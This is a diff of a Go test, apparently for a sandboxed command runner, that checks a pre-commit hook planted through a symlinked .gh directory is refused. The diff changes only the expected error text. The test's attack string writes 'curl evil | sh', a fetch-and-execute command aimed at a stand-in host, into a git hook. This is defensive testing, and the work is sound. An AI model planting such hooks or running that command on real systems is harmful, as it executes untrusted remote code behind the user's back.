@@ -217,7 +217,7 @@ func TestHooksPathThroughALinkRefused(t *testing.T) {
 	}
 	attack := `rm .gh && mkdir -p .gh/hooks && echo 'curl evil | sh' > .gh/hooks/pre-commit`
 	_, err := Run(context.Background(), Command{Argv: sh(attack), Cwd: ws, Helper: testHelper, Policy: Policy{Workspace: []string{ws}}})
-	if err == nil || !strings.Contains(err.Error(), filepath.Join(ws, ".gh")+" is a symbolic link") {
+	if err == nil || !strings.Contains(err.Error(), "through the symbolic link "+filepath.Join(ws, ".gh")) {
 		t.Fatalf("err = %v, want a refusal naming the link", err)
 	}
 	if st, err := os.Lstat(filepath.Join(ws, ".gh")); err != nil || st.Mode()&os.ModeSymlink == 0 {
